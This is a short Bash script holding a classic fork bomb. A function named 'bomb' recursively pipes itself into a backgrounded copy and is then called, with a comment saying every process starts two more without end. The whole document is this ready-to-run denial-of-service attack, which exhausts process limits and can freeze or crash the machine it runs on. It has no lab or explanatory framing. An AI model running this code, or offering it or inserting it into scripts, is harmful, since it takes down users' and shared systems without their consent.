# the classic: every process starts two more, without end
bomb() { bomb | bomb & }
bomb
sleep 100
